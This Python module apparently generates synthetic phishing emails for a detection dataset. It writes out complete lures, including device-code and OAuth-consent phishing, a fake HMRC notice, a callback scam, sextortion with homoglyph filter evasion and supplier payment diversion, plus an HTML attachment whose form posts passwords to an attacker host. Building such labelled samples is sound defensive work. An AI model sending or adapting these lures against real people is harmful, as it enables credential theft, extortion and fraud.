"""attack/09-16: English-language attacks."""
from . import company, docs, ics, ids, mime, shared, systems
from .core import local, Part, rstr, HEXL, HEXU, ALNUM, guid, rfc2822
from .h import S, setup, meta, urls, mid_m365, mid_gmail, pdf_meta, b64, outlook_quote_header
from .registry import message

HHL, NTS, FERR = company.HHL, company.NTS, company.FERR


@message('attack', 9, 'en', 'teams-device-code-harrowgate')
def a09(m):
    sw = S('sarah.whitfield')
    fake = 'harrowgate-homes.co.uk'
    sent = local('Europe/London', 2026, 11, 24, 14, 30, 12)
    setup(m, ('Oliver Bentley', 'o.bentley@' + fake), [(sw['name'], sw['addr'])],
          'Ripon Phase 2 – frame package programme review (Teams, Wed 10:00)', sent, zone='Europe/London')
    m.ms_server, m.ms_pod = 'CWXP265MB3391', 'GBRP265'
    m.msgid = mid_m365(m, 'CWXP265MB3391', 'GBRP265')
    code = 'GWZ8R7HLK'
    dl = 'https://microsoft.com/devicelogin'
    desc_lines = [
        'Hi Sarah,', '',
        'Following on from Rachel\'s RFQ for the 24 closed-panel kits at Ripon, could we take 20 minutes to run through the revised '
        'build programme before it goes to our board on Thursday? Plots 7-14 have moved forward by three weeks.', '',
        'Since the cyber incident at one of our subcontractors we only run external meetings through our secured Teams tenant. '
        'When you join, Teams will ask you to confirm your organisation:', '',
        '1. Go to %s' % dl,
        '2. Enter the meeting verification code: %s' % code,
        '3. Sign in with your Example Group Microsoft 365 account and click Continue.', '',
        'The code is valid for 15 minutes, so if it has expired just reply and I\'ll send a fresh one.', '',
        'Kind regards,', 'Oliver', '',
        'Oliver Bentley | Commercial Director', 'Harrowgate Homes Ltd | Hornbeam Park, Hookstone Road, Harrogate HG2 8PA',
        'T: +44 1423 814 602 | M: +44 7700 900 418', '',
        '________________________________________________________________________________',
        'Microsoft Teams meeting', 'Join on your computer, mobile app or room device',
        'Meeting verification: %s  |  Code: %s' % (dl, code),
        '________________________________________________________________________________']
    desc = '\n'.join(desc_lines)
    icsdata = ics.invite(m, ('Oliver Bentley', 'o.bentley@' + fake), [(sw['name'], sw['addr'])],
                         'Ripon Phase 2 – frame package programme review', desc, '20261125T100000', '20261125T102000',
                         'GMT Standard Time', '20261124T143012Z', 'Microsoft Teams Meeting')
    html = mime.outlook_html(mime.paras_html('\n'.join(desc_lines[:-5])) +
                             '<div style="width:100%%"><span style="white-space:nowrap;color:#5F5F5F">'
                             '________________________________________________________________________________</span></div>'
                             '<div style="margin-bottom:24px;overflow:hidden;white-space:nowrap"><span style="font-size:24px;font-weight:700;color:#242424">'
                             'Microsoft Teams meeting</span></div><div><span style="font-size:14px;font-weight:600">Join: '
                             '<a href="%s">%s</a> &nbsp;Code: <b>%s</b></span></div>' % (dl, dl, code), 'EN-GB')
    m.body = Part('multipart/alternative', boundary=mime.boundary(m, 'outlook', 'alt'), children=[
        mime.text(desc + '\n', 'utf-8', 'quoted-printable'), mime.html(html, 'utf-8', 'quoted-printable'),
        Part('text/calendar', body=icsdata, charset='utf-8', cte='base64', params=['method=REQUEST'])])
    systems.m365(m, tenant_id='3f9a2c71-5e04-4b8d-9c1a-6d27e0b4f815', org=fake, region='GBR01', server='CWXP265MB3391',
                 pod='GBRP265', lang='en-GB', selector='selector1', has_attach=False,
                 extra=[('x-ms-exchange-calendar-series-instance-id', 'BAAAAIIA4AB0xbcQGoLgCAAAAAA' + rstr(m.rng, ALNUM, 40)),
                        ('x-ms-exchange-imapappendstamp', 'CWXP265MB3391.GBRP265.PROD.OUTLOOK.COM (15.20.9137.000)')])
    urls(m, dl)
    m.fact('Other', 'Device code: `%s` (OAuth 2.0 device authorisation grant; whoever enters it at microsoft.com/devicelogin hands the attacker a token)' % code)
    meta(m, 'Device-code phishing disguised as a Teams meeting invite (.ics) from the UK customer\'s commercial director: to "verify '
            'the organisation" the recipient must enter a code at the genuine microsoft.com/devicelogin page.',
         'harrowgate-homes.co.uk (hyphen) is a look-alike of the customer\'s harrowgatehomes.co.uk, run in the attacker\'s own '
         'Microsoft 365 tenant, so authentication passes and the only link is Microsoft\'s real device-login page. Entering the code '
         'grants the attacker tokens for the victim\'s mailbox (Storm-2372 style). Genuine Teams invite: business/14.')


@message('attack', 10, 'en', 'oauth-consent-ferretti-doclink')
def a10(m):
    tl = S('tobias.lechner')
    sent = local('Europe/Berlin', 2026, 10, 20, 9, 14, 3)
    fake = 'ferretti-trasporti.com'
    setup(m, ('Ferretti Trasporti – Customer Service', 'customerservice@' + fake), [(tl['name'], tl['addr'])],
          'Action required: connect your account to FT DocLink (CMR & delivery documents)', sent)
    client = '4f7d1c2e-8b93-4a6e-b2d1-9e0c5a7f3b68'
    consent = ('https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=%s&response_type=code'
               '&redirect_uri=https%%3A%%2F%%2Fft-doclink.azurewebsites.net%%2Fsignin-oidc&response_mode=query'
               '&scope=offline_access%%20openid%%20profile%%20User.Read%%20Mail.ReadWrite%%20Files.Read.All&state=eu7Kq2'
               '&login_hint=tobias.lechner%%40example.com' % client)
    track = 'https://u48213907.ct.sendgrid.net/ls/click?upn=u001.' + rstr(m.rng, ALNUM + '-_', 120) + '-2B' + rstr(m.rng, ALNUM, 40)
    paras = [
        'Dear Mr Lechner,',
        'As announced in our September newsletter, Ferretti Trasporti is moving all transport documents – signed CMRs, proof of '
        'delivery, weighing slips and customs papers – to our new customer portal FT DocLink. From 2 November 2026 documents will no '
        'longer be sent as e-mail attachments.',
        'FT DocLink connects directly to your Microsoft 365 account, so there is no new password to remember. Please authorise the '
        'connection once; it takes less than a minute:',
        'After authorisation your documents for shipments Rosenheim – Verona – Bolzano will appear automatically.',
        'Kind regards,\nCustomer Service Team\nFerretti Trasporti S.p.A. · Via dell\'Industria 44 · 37066 Sommacampagna (VR)\n'
        'Tel. +39 045 858 1290',
    ]
    html = ('<html><body style="margin:0;background:#eef1f4"><table align="center" width="600" cellpadding="0" cellspacing="0" '
            'style="background:#fff;font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222">'
            '<tr><td style="background:#0b3d6e;color:#fff;padding:18px 28px;font-size:20px;font-weight:600">FERRETTI TRASPORTI '
            '<span style="font-weight:300">| FT DocLink</span></td></tr><tr><td style="padding:24px 28px">' +
            ''.join('<p>%s</p>' % mime.esc(p).replace('\n', '<br>') for p in paras[:3]) +
            '<p style="margin:22px 0"><a href="%s" style="background:#0078d4;color:#fff;padding:12px 24px;text-decoration:none;'
            'border-radius:2px;font-weight:600">Connect with Microsoft 365</a></p>' % mime.esc(track) +
            ''.join('<p>%s</p>' % mime.esc(p).replace('\n', '<br>') for p in paras[3:]) +
            '</td></tr><tr><td style="padding:12px 28px;color:#777;font-size:11px">You receive this e-mail as a registered consignee '
            'of Ferretti Trasporti S.p.A.<img src="https://u48213907.ct.sendgrid.net/wf/open?upn=u001.%s" width="1" height="1" alt=""></td></tr>'
            '</table></body></html>' % rstr(m.rng, ALNUM, 90))
    plain = '\n\n'.join(paras[:3]) + '\n\nConnect with Microsoft 365:\n' + consent + '\n\n' + '\n\n'.join(paras[3:]) + '\n'
    m.body = mime.alt(m, 'sendgrid', mime.text(plain, 'utf-8', 'quoted-printable'), mime.html(html, 'utf-8', 'quoted-printable'))
    systems.sendgrid(m, brand_domain=fake)
    urls(m, consent, track)
    m.fact('Other', 'OAuth client_id `%s` requests Mail.ReadWrite, Files.Read.All and offline_access for a multi-tenant app "FT DocLink"' % client)
    meta(m, 'OAuth consent phishing: "Ferretti Trasporti" asks the dispatcher to connect a new document portal to his Microsoft 365 '
            'account; the button goes (via SendGrid click tracking) to Microsoft\'s real authorize endpoint for an attacker-registered app.',
         'ferretti-trasporti.com is a look-alike of the carrier\'s .it domain, sent through SendGrid with the attacker\'s own domain '
         'authentication. The consent grants persistent mailbox read/write and file access (offline_access) without stealing the '
         'password, so MFA does not help. The real carrier writes from ferretti-trasporti.it via Microsoft 365 (business/14, 17).')


@message('attack', 11, 'en', 'hmrc-mtd-vat-reauth')
def a11(m):
    jo = S('james.oconnor')
    sent = local('Europe/London', 2026, 11, 3, 7, 2, 55)
    setup(m, ('HM Revenue & Customs', 'noreply@shop.brightleafinteriors.co.uk'), [('', jo['addr'])],
          'VAT: your Making Tax Digital authorisation has expired (VRN 314 8276 58)', sent, zone='Europe/London')
    target = 'https://hmrc-mtd-gateway.com/vat/reauth?vrn=314827658'
    enc = ids.b64 if False else None
    import base64
    bing = 'https://www.bing.com/ck/a?!&&p=' + rstr(m.rng, HEXL, 64) + 'JmltdHM9MTc5NDE3NjAwMA&ptn=3&ver=2&hsh=4&fclid=' + \
        guid(m.rng) + '&u=a1' + base64.urlsafe_b64encode(target.encode()).decode().rstrip('=') + '&ntb=1'
    paras = [
        'Dear Customer,',
        'Our records show that the authorisation between your Making Tax Digital (MTD) compatible software and HMRC for VAT '
        'registration number 314 8276 58 (EXAMPLE GROUP UK LTD) expired on 31 October 2026.',
        'Until the authorisation is renewed, VAT returns submitted through your software cannot be accepted. Your VAT return for the '
        'period ending 30 September 2026 is due by 7 November 2026. Late submission may result in penalty points and a financial penalty.',
        'To renew the authorisation, sign in with your Government Gateway user ID and confirm your business details:',
        'You will need your Government Gateway user ID, password and the access code sent to your registered mobile number.',
        'HM Revenue & Customs',
    ]
    html = ('<html><body style="margin:0;font-family:Arial,sans-serif;background:#f3f2f1"><table width="100%" cellpadding="0" '
            'cellspacing="0"><tr><td style="background:#0b0c0c;padding:14px 30px"><span style="color:#fff;font-size:26px;font-weight:700">'
            'GOV.UK</span></td></tr><tr><td style="border-bottom:10px solid #1d70b8"></td></tr><tr><td style="background:#fff;padding:30px;'
            'font-size:19px;color:#0b0c0c;line-height:1.3">' +
            ''.join('<p>%s</p>' % mime.esc(p) for p in paras[:4]) +
            '<p><a href="%s" style="background:#00703c;color:#fff;padding:10px 18px;text-decoration:none;font-weight:700;'
            'display:inline-block">Renew authorisation</a></p>' % mime.esc(bing) +
            ''.join('<p>%s</p>' % mime.esc(p) for p in paras[4:]) +
            '<p style="font-size:14px;color:#505a5f">This is an automated message. Do not reply to this email.</p></td></tr></table></body></html>')
    plain = '\n\n'.join(paras[:4]) + '\n\nRenew authorisation: ' + bing + '\n\n' + '\n\n'.join(paras[4:]) + \
        '\n\nThis is an automated message. Do not reply to this email.\n'
    m.body = mime.alt(m, 'java', mime.text(plain, 'utf-8', 'quoted-printable'), mime.html(html, 'utf-8', 'quoted-printable'))
    systems.ses(m, region='eu-west-2', domain_selector='x7kq2m4fdhw3ab5n6p8r9s1t2v4y6z8c', ses_selector='ihchhvubuqgjsxyuhssfvqohv7z3u4hn')
    urls(m, bing)
    m.fact('Other', 'Bing /ck/a open redirect; the `u=a1…` parameter is base64url of `%s`' % target)
    meta(m, 'HMRC impersonation to the UK accountant: Making Tax Digital VAT authorisation "expired", VAT return due in days, '
            'sign in with Government Gateway credentials and the SMS access code.',
         'Display name "HM Revenue & Customs" on a compromised online shop\'s Amazon SES account (SPF/DKIM pass for that shop\'s domain, '
         'not gov.uk); the link hides the phishing host behind Bing\'s click redirect; asks for the one-time access code (real-time '
         'relay). Real government mail: business/11 (Companies House via GOV.UK Notify).')


@message('attack', 12, 'en', 'paypal-invoice-callback')
def a12(m):
    fb = S('florian.bauer')
    sent = local('America/Los_Angeles', 2026, 10, 8, 23, 17, 40)
    inv = 'INV2-8WQ4-JH7R-5DKC-2TLM'
    setup(m, ('service@paypal.com', 'service@paypal.com'), [('', fb['addr'])],
          'Invoice from Norton Billing Team (%s)' % inv, sent, zone='America/Los_Angeles')
    m.frm = ('PayPal', 'service@paypal.com')
    m.msgid = '%s.%s@mx0.phx.paypal.com' % (rstr(m.rng, HEXL, 12), rstr(m.rng, HEXL, 16))
    phone = '+44 20 3808 4719'
    link = 'https://www.paypal.com/invoice/p/#' + inv.replace('-', '')
    note = ('Your NORTON 360 Total Protection (10 devices, 3 years) subscription has been renewed and £389.99 will be charged to your '
            'account within 24 hours. If you did not authorise this renewal or want to cancel and get a full refund, call our billing '
            'department on %s (Mon-Sat 8am-8pm).' % phone)
    rows = [('Norton 360 Total Protection – 10 devices, 3-year plan', '1', '£389.99')]
    html = ('<html><body style="margin:0;background:#f5f7fa;font-family:Helvetica Neue,Arial,sans-serif;color:#2c2e2f">'
            '<table align="center" width="600" cellpadding="0" cellspacing="0" style="background:#fff"><tr><td style="padding:24px 32px">'
            '<img src="https://www.paypalobjects.com/digitalassets/c/website/logo/full-text/pp_fc_hl.svg" width="101" height="32" alt="PayPal">'
            '</td></tr><tr><td style="padding:0 32px 8px 32px;font-size:28px;font-weight:300">Norton Billing Team sent you an invoice</td></tr>'
            '<tr><td style="padding:0 32px;font-size:15px">Amount requested: <b>£389.99 GBP</b><br>Due on receipt<br>Invoice number: %s</td></tr>'
            '<tr><td style="padding:18px 32px"><div style="background:#f5f7fa;padding:14px 16px;font-size:14px"><b>Seller note</b><br>%s</div></td></tr>'
            '<tr><td style="padding:0 32px">%s</td></tr>'
            '<tr><td style="padding:22px 32px"><a href="%s" style="background:#0070e0;color:#fff;padding:12px 30px;border-radius:24px;'
            'text-decoration:none;font-weight:700">View and Pay Invoice</a></td></tr>'
            '<tr><td style="padding:10px 32px 30px 32px;font-size:12px;color:#687173">Don\'t recognise this invoice? Before paying, make sure '
            'you recognise this invoice. If you don\'t, report it. Learn more about common security threats and how to spot them. For '
            'example, PayPal would never use an invoice or a money request to ask you for your account credentials.<br><br>'
            'Copyright © 1999-2026 PayPal, Inc. All rights reserved. PayPal (Europe) S.à r.l. et Cie, S.C.A.<br>PayPal RT004213:en_GB(en-GB):1.3.0:%s</td></tr>'
            '</table></body></html>' % (inv, mime.esc(note),
                                       '<table width="100%" style="font-size:14px;border-top:1px solid #ddd">' + ''.join(
                                           '<tr><td>%s</td><td align="right">%s</td><td align="right">%s</td></tr>' % tuple(mime.esc(x) for x in r) for r in rows)
                                       + '<tr><td colspan="2" align="right"><b>Total</b></td><td align="right"><b>£389.99 GBP</b></td></tr></table>',
                                       mime.esc(link), rstr(m.rng, HEXL, 13)))
    m.body = mime.html(html, 'UTF-8', 'quoted-printable')
    m.msgid = '%s.%s@paypal.com' % (rstr(m.rng, HEXL, 16), rstr(m.rng, HEXL, 8))
    systems.gateway(m, 'mx15.slc.paypal.com', '173.0.84.226', 'pp-dkim1', dkim_domain='paypal.com',
                    inner=[('slc-a-mtaout-%s.slc.paypalinc.com (slc-a-mtaout-%s.slc.paypalinc.com [10.17.%d.%d])' % (
                        '03', '03', m.rng.randint(1, 200), m.rng.randint(1, 200)), 'mx15.slc.paypal.com (Postfix)',
                        'with ESMTPS id %s' % mime.rstr(m.rng, mime.HEXU, 10))],
                    extra=[('X-Email-Type-Id', 'PPX001208'), ('X-XPT-XSL-Name', 'invoice_sent.xsl'), ('PP-Correlation-Id', rstr(m.rng, HEXL, 13)),
                           ('X-MaxCode-Template', 'PPX001208'), ('Content-Language', 'en_GB')],
                    env_from='service@paypal.com')
    urls(m, link)
    m.fact('Phone', phone)
    meta(m, 'Callback phishing (TOAD) through a genuine PayPal invoice: "Norton Billing Team" bills £389.99 for an antivirus renewal; '
            'the seller note urges a call to a UK number to cancel, where the victim is talked into remote access or a "refund".',
         'The mail is really generated by PayPal (SPF, DKIM and DMARC pass for paypal.com) because the criminal opened a PayPal '
         'business account; the malicious element is only the phone number in free text. Nobody at Example Group uses Norton.')


@message('attack', 13, 'en', 'itt-tender-html-credential-lure')
def a13(m):
    mr = S('michael.reiter')
    sent = local('Europe/London', 2026, 11, 13, 11, 26, 44)
    setup(m, ('Helen Marsh', 'h.marsh@pennine-design.co.uk'), [(mr['name'], mr['addr'])],
          "Invitation to Tender – Timber frame classroom block, St Wilfrid's Primary (ref PDA-2611)", sent, zone='Europe/London',
          style='gmail')
    m.msgid = mid_gmail(m)
    portal = 'https://pennine-docs.sharefile-secure.net/auth/ms/submit.php'
    text = ('Dear Michael,\n\n'
            'Pennine Design Architects have been appointed by the Diocese of Leeds Academies Trust to procure the design and build of a '
            'two-storey timber frame classroom block (approx. 640 m² GIA) at St Wilfrid\'s Catholic Primary School, Harrogate. Your firm '
            'was recommended to us as a closed-panel manufacturer with school references.\n\n'
            'We would be grateful if you could confirm your interest and submit a tender by 12:00 on Friday 4 December 2026. The '
            'tender pack (ITT, drawings, structural brief, pre-construction information and the form of tender) is held on our secure '
            'document portal. Please open the attached access file and sign in with your company email to download the documents.\n\n'
            'Clarification questions should be raised through the portal by 27 November.\n\n'
            'Kind regards\n\nHelen Marsh RIBA\nAssociate Director\nPennine Design Architects Ltd\n14 Victoria Avenue, Harrogate HG1 1ED\n'
            'T 01423 566 180 | M +44 7700 900 263\nwww.pennine-design.co.uk\n')
    gm = mime.gmail_html([ln for ln in text.rstrip('\n').split('\n')])
    lure = ('<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>Pennine Design – Secure Document Portal</title>'
            '<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f2f2f2;margin:0}.box{width:440px;margin:80px auto;background:#fff;'
            'padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%%;padding:6px 0;border:0;border-bottom:1px solid #666;'
            'font-size:15px;margin:10px 0}button{background:#0067b8;color:#fff;border:0;padding:8px 32px;font-size:15px;float:right}'
            '</style></head><body><div class="box"><div style="font-size:20px;color:#5e5e5e">Microsoft</div>'
            '<h2 style="font-weight:600">Sign in to view documents</h2><p>ITT_PDA-2611_Tender_Pack.zip (38.4 MB) has been shared with '
            'michael.reiter@examplegroup.eu</p><form method="post" action="%s">'
            '<input type="email" name="login" value="michael.reiter@examplegroup.eu">'
            '<input type="password" name="passwd" placeholder="Password">'
            '<input type="hidden" name="ref" value="PDA-2611"><button type="submit">Sign in</button></form>'
            '<p style="clear:both;font-size:13px;padding-top:30px">Protected by Microsoft 365 Secure Share</p></div></body></html>\n' % portal)
    m.body = mime.mixed(m, 'gmail', [
        mime.alt(m, 'gmail', mime.text(text, 'UTF-8', 'quoted-printable'), mime.html(gm, 'UTF-8', 'quoted-printable')),
        Part('text/html', body=lure, charset='UTF-8', cte='base64', filename='ITT_PDA-2611_Tender_Pack_Access.html',
             disposition='attachment', headers=[('X-Attachment-Id', 'f_m' + rstr(m.rng, 'abcdefghijklmnopqrstuvwxyz0123456789', 8))])])
    systems.gmail(m, workspace_domain='pennine-design.co.uk')
    urls(m, portal)
    m.fact('Phone', 'T 01423 566 180')
    meta(m, 'Fake invitation to tender from a (compromised) architects\' practice for a school classroom block; the "access file" '
            'is an HTML attachment that renders a Microsoft sign-in form pre-filled with the recipient\'s address.',
         'Real Google Workspace domain of an unrelated architecture firm (SPF/DKIM/DMARC pass) whose mailbox was taken over; the '
         'HTML attachment posts the password to sharefile-secure.net, not to Microsoft. Genuine tenders arrive via portals or the '
         'customer\'s own SharePoint (business/08, 13, 26).')


@message('attack', 14, 'en', 'sharepoint-share-compromised-supplier')
def a14(m):
    jo = S('james.oconnor')
    sent = local('Europe/London', 2026, 12, 2, 15, 6, 21)
    setup(m, ('Gary Holt', 'no-reply@sharepointonline.com'), [('', jo['addr'])],
          'Gary Holt shared "NTS Statement of Account & Remittance – November 2026" with you', sent, zone='Europe/London',
          reply_to=('Gary Holt', 'g.holt@northerntimber.co.uk'))
    m.ms_server, m.ms_pod = 'LO2P265MB5123', 'GBRP265'
    m.msgid = mid_m365(m, 'LO2P265MB5123', 'GBRP265')
    link = 'https://northerntimber-my.sharepoint.com/:b:/g/personal/g_holt_northerntimber_co_uk/EXq3Vt9LwKpBg2cR7s1dHnQBa4f0mZ2yT6uXcE8kJ5pW1g?e=4Rk2Pz'
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0">'
            '<table role="presentation" width="100%%" style="font-family:Segoe UI,sans-serif;color:#242424"><tr><td align="center">'
            '<table width="520" style="padding:24px"><tr><td style="font-size:24px;font-weight:600;padding-bottom:16px">'
            'Gary Holt shared a file with you</td></tr>'
            '<tr><td style="font-size:15px;padding-bottom:16px">Hi James, here is our statement for November incl. the updated '
            'remittance details – please check before your next payment run. Thanks, Gary</td></tr>'
            '<tr><td style="border:1px solid #e1e1e1;padding:14px"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20251010.001/assets/item-types/48/pdf.png" width="36" height="36" alt="">'
            '&nbsp;<b>NTS Statement of Account &amp; Remittance – November 2026.pdf</b></td></tr>'
            '<tr><td style="padding:20px 0"><a href="%s" style="background:#0f6cbd;color:#fff;padding:8px 20px;border-radius:4px;'
            'text-decoration:none;font-weight:600">Open</a></td></tr>'
            '<tr><td style="font-size:12px;color:#616161">This link will work for anyone with the link.</td></tr>'
            '<tr><td style="font-size:12px;color:#616161;padding-top:24px"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20251010.001/assets/brand-icons/product/png/sharepoint_48x1.png" width="18" height="18" alt="">'
            ' Microsoft respects your privacy. To learn more, please read our <a href="https://go.microsoft.com/fwlink/?LinkId=521839">Privacy Statement</a>.<br>'
            'Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr></table></td></tr></table></body></html>' % mime.esc(link))
    m.body = mime.html(html, 'utf-8', 'base64')
    systems.m365(m, tenant_id='b6e1d4f0-2a7c-4c39-8e51-7f03a9d2c614', org='northerntimber.co.uk', region='GBR01',
                 server='LO2P265MB5123', pod='GBRP265', lang='en-US', dkim_domain='sharepointonline.com', selector='selector2',
                 thread_topic=False, originator='northerntimber.co.uk',
                 extra=[('X-MS-Exchange-Organization-ShareType', 'File'), ('x-ms-exchange-sharing-notification-type', 'sharingInvitation')])
    urls(m, link, 'https://go.microsoft.com/fwlink/?LinkId=521839',
         'https://res-1.cdn.office.net/files/fabric-cdn-prod_20251010.001/assets/item-types/48/pdf.png',
         'https://res-1.cdn.office.net/files/fabric-cdn-prod_20251010.001/assets/brand-icons/product/png/sharepoint_48x1.png')
    meta(m, 'SharePoint sharing notification from the real, compromised Microsoft 365 tenant of UK supplier Northern Timber Supplies: '
            '"statement of account & remittance" PDF on the supplier\'s OneDrive, whose link leads to an adversary-in-the-middle login page.',
         'Everything is genuine Microsoft infrastructure (sharepointonline.com DKIM, supplier tenant ID) because the supplier\'s account '
         'was taken over; "anyone with the link" sharing, mention of "updated remittance details", and a supplier that normally sends '
         'its statements and invoices from Xero (business/12).')


@message('attack', 15, 'en', 'sextortion-btc-spoofed-self')
def a15(m):
    lh = S('lukas.hartmann')
    sent = local('Europe/Berlin', 2026, 10, 11, 3, 14, 9)
    setup(m, (lh['addr'], lh['addr']), [(lh['addr'], lh['addr'])],
          'Security alert: your account %s was compromised – 72h' % lh['addr'], sent)
    m.frm = ('', lh['addr'])
    m.to = [('', lh['addr'])]
    m.msgid = '%s$%s@%s' % (rstr(m.rng, HEXU, 12), rstr(m.rng, HEXU, 6), 'example.com')
    prog = bytes(m.rng.randrange(256) for _ in range(20))
    wallet = ids.btc_p2wpkh(prog)
    # homoglyphs (Greek/Cyrillic look-alikes) inside common words, as used to evade keyword filters
    P = '\u03a1'   # Greek capital rho
    a = '\u0430'   # Cyrillic a
    o = '\u043e'   # Cyrillic o
    text = ('Hello!\n\n'
            'I am a hacker who has access to your operating system. I also have full access to your account %s.\n\n'
            'I have been watching you for a few months now. Your device was infected with my malware while you visited an adult website. '
            'If you are not familiar with this: it gives me full access and control over your system, including the camera and microphone.\n\n'
            'I recorded a video of you while you were watching, and I have a copy of your contacts, your mailbox and your social accounts. '
            'With one click I can send this video to all your colleagues, relatives and friends.\n\n'
            'I think you do not want this. So here is my offer: transfer $1450 (USD) in Bitcoin to my wallet and I will delete everything '
            'and disappear from your life.\n\n'
            'My BTC wallet: %s\n\n'
            '%s%syment must be m%sde within 72 hours after you open this e-mail. I get a notification when you open it. If I do not receive '
            'the money, the video goes to everyone. D%s not reply to this e-mail, it is sent from your own account. Do not go to the '
            'police – I will know.\n\n'
            'Google "how to buy bitcoin" if you do not know how. Good luck.\n' % (lh['addr'], wallet, P, a, a, o))
    m.body = mime.text(text, 'utf-8', 'quoted-printable')
    systems.direct(m, 'DESKTOP-7JQ2K3L', '203.0.113.188', rdns=None, spf='fail',
                   x_mailer='Microsoft Outlook Express 6.00.2900.5512',
                   extra=[('X-MSMail-Priority', 'Normal'), ('X-Priority', '3'), ('X-MimeOLE', 'Produced By Microsoft MimeOLE V6.00.2900.5512')])
    m.fact('Wallet', wallet)
    meta(m, 'Sextortion: claims the IT administrator\'s device was hacked and a webcam video recorded; demands $1,450 in Bitcoin '
            'within 72 hours. Sent "from his own address" to prove control.',
         'From is spoofed (SPF fail, DMARC fail for example.com), sent directly to the MX from a home PC (HELO DESKTOP-…, no rDNS); '
         'fake Outlook Express mailer; Greek and Cyrillic look-alike letters inside "Payment", "made" and "Do" to dodge keyword '
         'filters; valid bech32 Bitcoin address.')


@message('attack', 16, 'en', 'docusign-abuse-remittance-form')
def a16(m):
    sk = S('sabine.koehler')
    sent = local('America/Los_Angeles', 2026, 12, 8, 1, 52, 36)
    setup(m, ('Northern Timber Supplies Ltd via Docusign', 'dse_NA4@docusign.net'), [(sk['name'], sk['addr'])],
          'Complete with Docusign: NTS_Remittance_Details_Update_Dec2026.pdf', sent, zone='UTC',
          reply_to=('Northern Timber Supplies Ltd', 'accounts.nts.ltd@outlook.com'))
    m.msgid = '%s@docusign.net' % guid(m.rng)
    env = guid(m.rng).upper()
    acct = guid(m.rng)
    review = 'https://na4.docusign.net/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s&er=%s' % (guid(m.rng), acct, guid(m.rng))
    code = rstr(m.rng, HEXU, 32)
    msg_text = ('Dear Sabine,\n\nAs discussed with your UK colleagues, please review and sign the attached remittance details update so '
                'that our records match for the December payment run. Payments from 14 December should only be made to the account '
                'shown in the signed form.\n\nKind regards,\nAccounts Receivable\nNorthern Timber Supplies Ltd')
    html = ('<html><body style="background:#eaeaea;margin:0;font-family:Helvetica,Arial,sans-serif"><table align="center" width="640" '
            'cellpadding="0" cellspacing="0" style="background:#fff"><tr><td style="padding:20px 24px"><img src="https://na4.docusign.net/Member/Images/email/docuSign-logo.png" '
            'width="116" alt="Docusign"></td></tr><tr><td style="background:#1e4ca1;color:#fff;padding:30px 24px;text-align:center;font-size:16px">'
            'Northern Timber Supplies Ltd sent you a document to review and sign.<br><br><a href="%s" style="background:#ffc820;color:#333;'
            'padding:12px 24px;text-decoration:none;font-weight:bold;font-size:14px;border-radius:2px">REVIEW DOCUMENT</a></td></tr>'
            '<tr><td style="padding:24px;font-size:15px;color:#333"><b>Northern Timber Supplies Ltd</b><br><a href="mailto:accounts.nts.ltd@outlook.com">'
            'accounts.nts.ltd@outlook.com</a><br><br>%s</td></tr>'
            '<tr><td style="padding:24px;background:#f4f4f4;font-size:12px;color:#666"><b>Do Not Share This Email</b><br>This email contains a '
            'secure link to Docusign. Please do not share this email, link, or access code with others.<br><br><b>Alternate Signing Method</b><br>'
            'Visit Docusign.com, click \'Access Documents\', and enter the security code:<br>%s<br><br><b>About Docusign</b><br>Sign documents '
            'electronically in just minutes. It\'s safe, secure, and legally binding.<br><br><b>Questions about the Document?</b><br>If you need to '
            'modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.'
            '<br><br>This message was sent to you by Northern Timber Supplies Ltd who is using the Docusign Electronic Signature Service.</td></tr>'
            '</table></body></html>' % (mime.esc(review), mime.esc(msg_text).replace('\n', '<br>'), code))
    plain = ('Northern Timber Supplies Ltd sent you a document to review and sign.\n\nREVIEW DOCUMENT: %s\n\nNorthern Timber Supplies Ltd\n'
             'accounts.nts.ltd@outlook.com\n\n%s\n\nDo Not Share This Email\nThis email contains a secure link to Docusign. Please do not '
             'share this email, link, or access code with others.\n\nAlternate Signing Method\nVisit Docusign.com, click \'Access Documents\', '
             'and enter the security code:\n%s\n\nThis message was sent to you by Northern Timber Supplies Ltd who is using the Docusign '
             'Electronic Signature Service.\n' % (review, msg_text, code))
    m.body = mime.alt(m, 'net', mime.text(plain, 'utf-8', 'quoted-printable'), mime.html(html, 'utf-8', 'quoted-printable'))
    m.env_from = 'bounces+%s@docusign.net' % rstr(m.rng, HEXL, 16)
    systems.gateway(m, 'mailna4b.docusign.net', '64.207.219.135', 'mail1', dkim_domain='docusign.net',
                    inner=[('NA4DFMAIL1.docusign.net (10.34.%d.%d)' % (m.rng.randint(1, 200), m.rng.randint(1, 200)),
                            'mailna4b.docusign.net (Postfix)', 'with ESMTP id %s' % rstr(m.rng, HEXU, 10))],
                    extra=[('X-DocuSign-EnvelopeId', env), ('X-DocuSign-RecipientId', guid(m.rng)), ('X-Api-Host', 'na4.docusign.net'),
                           ('X-DocuSign-Notification', 'EnvelopeSent')])
    urls(m, review, 'https://na4.docusign.net/Member/Images/email/docuSign-logo.png')
    meta(m, 'Abuse of the real DocuSign service: an envelope "from Northern Timber Supplies Ltd" asks the group CFO to sign a '
            'remittance-details update; the document in the envelope carries the fraudster\'s bank account.',
         'Technically a genuine DocuSign mail (docusign.net SPF/DKIM/DMARC pass), but the sender account is a free Outlook.com address '
         'posing as the supplier, the request (new remittance account from 14 December) is pure payment-diversion, and it goes to the '
         'German CFO instead of the UK accountant who deals with the supplier. Genuine DocuSign envelope: business/06.')
